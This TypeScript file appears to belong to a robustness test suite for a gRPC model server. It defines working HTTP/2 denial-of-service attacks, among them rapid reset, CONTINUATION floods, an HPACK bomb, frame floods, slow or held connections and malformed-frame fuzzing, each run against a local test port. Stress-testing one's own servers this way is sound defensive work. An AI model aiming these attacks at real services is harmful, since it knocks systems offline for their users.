import { mutate } from "../mutate.ts";
import type { Random } from "../random.ts";
import type { Attack, AttackContext } from "./attack.ts";
import {
  Flag,
  FrameType,
  frame,
  framesOf,
  grpcHeaders,
  grpcMessage,
  header,
  irisRequest,
  PREDICT_PATH,
  paddedRequest,
  predictCall,
  preface,
  settings,
  u32,
} from "./http2_frames.ts";
import { RawConnection } from "./raw_connection.ts";

const opening = Buffer.concat([preface, settings()]);
const ping = frame(FrameType.ping, 0, 0, Buffer.alloc(8));
const INITIAL_WINDOW_SIZE = 4;
const HOLD_MS = 1500;

async function open(context: AttackContext, first: Uint8Array = opening): Promise<RawConnection> {
  const connection = await RawConnection.open(context.ports.grpc);
  await connection.send(first);
  return connection;
}

/** 同じものを、送れなくなるまで送る。 @returns 送れた回数。 */
async function flood(connection: RawConnection, unit: Uint8Array, times: number): Promise<number> {
  const perChunk = Math.max(1, Math.floor(65536 / unit.length));
  const chunk = Buffer.concat(Array.from({ length: perChunk }, () => unit));
  let sent = 0;
  while (sent < times && (await connection.send(chunk))) sent += perChunk;
  return sent;
}

/** 閉じられたか、往復できるか。どちらでもなければ、サーバーは接続を忘れている。 */
async function settle(connection: RawConnection): Promise<string> {
  connection.resume();
  await connection.send(ping);
  await connection.until(({ closed }) => closed, 300);
  const goAway = [...framesOf(connection.bytes())].find(({ type }) => type === FrameType.goAway);
  const end = connection.closed ? "closed" : "open";
  connection.close();
  return goAway === undefined ? end : `${end}, GOAWAY ${goAway.payload.readUInt32BE(4)}`;
}

/** 1 本の接続に同じものを浴びせる。 */
const flooding = (name: string, unit: () => Uint8Array, times: number, reads = true): Attack => ({
  name,
  run: async (context) => {
    const connection = await open(context);
    if (!reads) connection.pause();
    const sent = await flood(connection, unit(), times * context.scale);
    await context.healthy();
    return `${sent} sent, ${await settle(connection)}`;
  },
});

/** 大勢がつないだまま黙る。 */
const holding = (name: string, count: number, first: Uint8Array): Attack => ({
  name,
  run: async (context) => {
    const connections = await Promise.all(
      Array.from({ length: count * context.scale }, () => open(context, first)),
    );
    await Bun.sleep(HOLD_MS);
    await context.healthy();
    const closed = connections.filter((connection) => connection.closed).length;
    for (const connection of connections) connection.reset();
    return `${connections.length} held, ${closed} closed by the server`;
  },
});

/** 一度だけ送って、どうなるかを見る。 */
const once = (name: string, make: (random: Random) => Uint8Array): Attack => ({
  name,
  run: async (context) => {
    const connection = await open(context, make(context.random));
    await connection.until(({ closed }) => closed, 500);
    return settle(connection);
  },
});

const call = (stream: number, payload: Uint8Array): Buffer =>
  Buffer.concat([
    frame(FrameType.headers, Flag.endHeaders, stream, grpcHeaders()),
    frame(FrameType.data, Flag.endStream, stream, payload),
  ]);

export const http2Attacks: readonly Attack[] = [
  once("h2: garbage instead of the preface", (random) =>
    Uint8Array.from({ length: 4096 }, () => random.below(256)),
  ),
  once("h2: half a preface", () => preface.subarray(0, 12)),
  once("h2: HTTP/1.1", () => Buffer.from("GET / HTTP/1.1\r\nHost: a\r\n\r\n")),
  once("h2: a TLS hello", () => Buffer.from("1603010200010001fc0303", "hex")),
  once("h2: an oversize frame", () => Buffer.concat([opening, frame(0, 0, 1, Buffer.alloc(20_000))])),
  once("h2: a frame that claims 16 MiB", () =>
    Buffer.concat([opening, frame(1, 4, 1, Buffer.alloc(100), 2 ** 24 - 1)]),
  ),
  once("h2: settings of odd length", () => Buffer.concat([opening, frame(4, 0, 0, Buffer.alloc(5))])),
  once("h2: settings out of range", () =>
    Buffer.concat([preface, settings([INITIAL_WINDOW_SIZE, 2 ** 31], [5, 1])]),
  ),
  once("h2: window overflow", () =>
    Buffer.concat([opening, ...Array.from({ length: 4 }, () => frame(8, 0, 0, u32(2 ** 31 - 1)))]),
  ),
  once("h2: zero window increment", () => Buffer.concat([opening, frame(8, 0, 0, u32(0))])),
  once("h2: push promise from the client", () => Buffer.concat([opening, frame(5, 4, 1, u32(2))])),
  once("h2: padding longer than the frame", () =>
    Buffer.concat([opening, frame(1, 4 | 8, 1, Buffer.from([255, 0]))]),
  ),
  once("h2: bad HPACK", (random) =>
    Buffer.concat([
      opening,
      frame(
        1,
        5,
        1,
        Uint8Array.from({ length: 200 }, () => random.below(256)),
      ),
    ]),
  ),
  once("h2: continuation without headers", () => Buffer.concat([opening, frame(9, 4, 1, grpcHeaders())])),
  once("h2: a message that claims 4 GiB", () =>
    Buffer.concat([opening, call(1, grpcMessage(irisRequest, 2 ** 32 - 1))]),
  ),
  once("h2: a compressed message without an encoding", () =>
    Buffer.concat([opening, call(1, grpcMessage(irisRequest, irisRequest.length, 1))]),
  ),
  once("h2: a bad compression flag", () =>
    Buffer.concat([opening, call(1, grpcMessage(irisRequest, irisRequest.length, 77))]),
  ),
  once("h2: a stream of the server's number", () => Buffer.concat([opening, predictCall(2)])),
  flooding("h2: PING flood, never read", () => ping, 200_000, false),
  flooding("h2: SETTINGS flood, never read", () => settings([3, 100]), 200_000, false),
  flooding("h2: PRIORITY flood", () => frame(2, 0, 1, u32(3, 16).subarray(0, 5)), 200_000),
  flooding("h2: WINDOW_UPDATE flood", () => frame(8, 0, 0, u32(1)), 200_000),
  flooding("h2: empty DATA flood", () => frame(0, 0, 1), 200_000),
  flooding("h2: unknown frame flood", () => frame(0xfa, 0xff, 1, Buffer.alloc(1000)), 20_000),
  {
    name: "h2: rapid reset",
    run: async (context) => {
      const connection = await open(context);
      const calls = 20_000 * context.scale;
      let stream = 1;
      while (stream < calls * 2) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 100; i++, stream += 2) {
          batch.push(predictCall(stream), frame(FrameType.rstStream, 0, stream, u32(8)));
        }
        if (!(await connection.send(Buffer.concat(batch)))) break;
      }
      await context.healthy();
      return `${(stream - 1) / 2} calls, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: reset before the message",
    run: async (context) => {
      const connection = await open(context);
      let stream = 1;
      while (stream < 40_000 * context.scale) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 100; i++, stream += 2) {
          batch.push(
            frame(FrameType.headers, Flag.endHeaders, stream, grpcHeaders()),
            frame(FrameType.rstStream, 0, stream, u32(8)),
          );
        }
        if (!(await connection.send(Buffer.concat(batch)))) break;
      }
      await context.healthy();
      return `${(stream - 1) / 2} calls, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: CONTINUATION flood",
    run: async (context) => {
      const connection = await open(context);
      await connection.send(frame(FrameType.headers, 0, 1, grpcHeaders()));
      const filler = header("x-filler", "a".repeat(16_000));
      const sent = await flood(connection, frame(FrameType.continuation, 0, 1, filler), 4000 * context.scale);
      await context.healthy();
      return `${sent} frames, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: empty CONTINUATION flood",
    run: async (context) => {
      const connection = await open(context);
      await connection.send(frame(FrameType.headers, 0, 1, grpcHeaders()));
      const sent = await flood(connection, frame(FrameType.continuation, 0, 1), 200_000 * context.scale);
      await context.healthy();
      return `${sent} frames, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: HPACK bomb",
    run: async (context) => {
      const connection = await open(context);
      const table = header("x-bomb", "b".repeat(3900), true);
      await connection.send(frame(1, 4 | 1, 1, Buffer.concat([grpcHeaders(), table])));
      // 0xbe は動的表の先頭。1 バイトで 4 KB になる。
      const bomb = Buffer.concat([grpcHeaders(), Buffer.alloc(15_000, 0xbe)]);
      let stream = 3;
      while (stream < 2 * 50 * context.scale && (await connection.send(frame(1, 4 | 1, stream, bomb)))) {
        stream += 2;
      }
      await context.healthy();
      return `${(stream - 1) / 2} requests, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: a window of zero",
    run: async (context) => {
      const connection = await open(context, Buffer.concat([preface, settings([INITIAL_WINDOW_SIZE, 0])]));
      for (let stream = 1; stream < 2000 * context.scale; stream += 2) {
        if (!(await connection.send(predictCall(stream)))) break;
      }
      await context.healthy();
      return settle(connection);
    },
  },
  {
    name: "h2: window up and down",
    run: async (context) => {
      const connection = await open(context, Buffer.concat([preface, settings([INITIAL_WINDOW_SIZE, 0])]));
      await connection.send(Buffer.concat(Array.from({ length: 100 }, (_, i) => predictCall(2 * i + 1))));
      const swing = Buffer.concat([
        settings([INITIAL_WINDOW_SIZE, 2 ** 31 - 1]),
        settings([INITIAL_WINDOW_SIZE, 0]),
      ]);
      const sent = await flood(connection, swing, 10_000 * context.scale);
      await context.healthy();
      return `${sent} swings, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: answers never read",
    run: async (context) => {
      const connection = await open(context);
      connection.pause();
      const path = "/tensorflow.serving.PredictionService/GetModelMetadata";
      // model_spec { name: "iris" } metadata_field: "signature_def"
      const message = Buffer.from("0a060a0469726973120d7369676e61747572655f646566", "hex");
      const one = (stream: number) =>
        Buffer.concat([
          frame(FrameType.headers, Flag.endHeaders, stream, grpcHeaders(path)),
          frame(FrameType.data, Flag.endStream, stream, grpcMessage(message)),
        ]);
      let stream = 1;
      while (stream < 20_000 * context.scale && (await connection.send(one(stream), 500))) stream += 2;
      await context.healthy();
      return `${(stream - 1) / 2} calls, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: streams that never end",
    run: async (context) => {
      const connection = await open(context);
      let stream = 1;
      while (stream < 40_000 * context.scale) {
        const headers = frame(FrameType.headers, Flag.endHeaders, stream, grpcHeaders());
        const head = frame(FrameType.data, 0, stream, grpcMessage(irisRequest, 1_000_000));
        if (!(await connection.send(Buffer.concat([headers, head])))) break;
        stream += 2;
      }
      await context.healthy();
      return `${(stream - 1) / 2} streams, ${await settle(connection)}`;
    },
  },
  {
    name: "h2: calls past the window, in one write",
    run: async (context) => {
      const connection = await open(context);
      const calls = 5000;
      await connection.send(
        Buffer.concat(Array.from({ length: calls }, (_, i) => predictCall(2 * i + 1))),
        10_000,
      );
      await context.healthy();
      return settle(connection);
    },
  },
  {
    name: "h2: small messages of huge tensors",
    run: async (context) => {
      let calls = 0;
      for (let round = 0; round < 10 * context.scale; round++) {
        const connection = await open(context);
        await connection.send(
          Buffer.concat(Array.from({ length: 100 }, (_, i) => call(2 * i + 1, grpcMessage(paddedRequest)))),
        );
        calls += 100;
        await context.healthy();
        connection.reset();
      }
      return `${calls} calls`;
    },
  },
  {
    name: "h2: gone before the answer",
    run: async (context) => {
      for (let i = 0; i < 100 * context.scale; i++) {
        const connection = await open(context, Buffer.concat([opening, predictCall(1), predictCall(3)]));
        if (i % 2 === 0) connection.reset();
        else connection.halfClose();
        if (i % 2 === 1) await connection.until(({ closed }) => closed, 20);
        connection.close();
      }
      await context.healthy();
      return "done";
    },
  },
  holding("h2: silent connections", 300, new Uint8Array(0)),
  holding("h2: slow prefaces", 300, preface.subarray(0, 10)),
  holding(
    "h2: headers that never end",
    300,
    Buffer.concat([opening, frame(FrameType.headers, 0, 1, grpcHeaders())]),
  ),
  holding(
    "h2: messages that never end",
    300,
    Buffer.concat([
      opening,
      frame(FrameType.headers, Flag.endHeaders, 1, grpcHeaders()),
      frame(FrameType.data, 0, 1, grpcMessage(irisRequest, 2 ** 30)),
    ]),
  ),
  holding(
    "h2: a frame that never ends",
    300,
    Buffer.concat([opening, frame(FrameType.data, 0, 1, Buffer.alloc(10), 16_384)]),
  ),
  {
    name: "h2: random frames",
    run: async (context) => {
      const { random } = context;
      let closed = 0;
      const sessions = 150 * context.scale;
      for (let i = 0; i < sessions; i++) {
        const connection = await open(context);
        const frames = Array.from({ length: 1 + random.below(30) }, () => randomFrame(random));
        await connection.send(Buffer.concat(frames));
        await connection.until((one) => one.closed, 25);
        if (connection.closed) closed++;
        connection.reset();
      }
      await context.healthy();
      return `${sessions} sessions, ${closed} closed by the server`;
    },
  },
  {
    name: "h2: mutated sessions",
    run: async (context) => {
      const { random } = context;
      const good = Buffer.concat([opening, predictCall(1), ping, predictCall(3), frame(8, 0, 0, u32(100))]);
      const sessions = 150 * context.scale;
      let closed = 0;
      for (let i = 0; i < sessions; i++) {
        // 開始の合図だけは残すと、奥まで届く。
        const keep = random.below(4) === 0 ? 0 : preface.length;
        const broken = mutate(random, good.subarray(keep));
        const connection = await open(context, Buffer.concat([good.subarray(0, keep), broken]));
        await connection.until((one) => one.closed, 25);
        if (connection.closed) closed++;
        connection.reset();
      }
      await context.healthy();
      return `${sessions} sessions, ${closed} closed by the server`;
    },
  },
];

function randomFrame(random: Random): Buffer {
  const type = random.below(11);
  const stream = random.pick([0, 1, 1, 3, 3, 5, 7, 2, 2 ** 31 - 1]);
  const flags = random.pick([0, 1, 4, 5, 5, 8, 0x25, 0xff]);
  const payloads = [
    () => grpcHeaders(),
    () => grpcHeaders(`/${"x".repeat(random.below(3000))}`),
    () => grpcHeaders(PREDICT_PATH, [["grpc-timeout", random.pick(["0m", "1n", "99999999H", "-1S", "x"])]]),
    () => grpcHeaders(PREDICT_PATH, [["grpc-encoding", random.pick(["gzip", "snappy", ""])]]),
    () => grpcMessage(irisRequest),
    () => grpcMessage(mutate(random, irisRequest)),
    () => u32(random.next()),
    () => u32(random.next(), random.next()),
    () => Buffer.from(Uint8Array.from({ length: random.below(300) }, () => random.below(256))),
  ];
  const payload = random.pick(payloads)();
  const length = random.below(20) === 0 ? random.below(2 ** 24) : payload.length;
  return frame(type, flags, stream, payload, length);
}
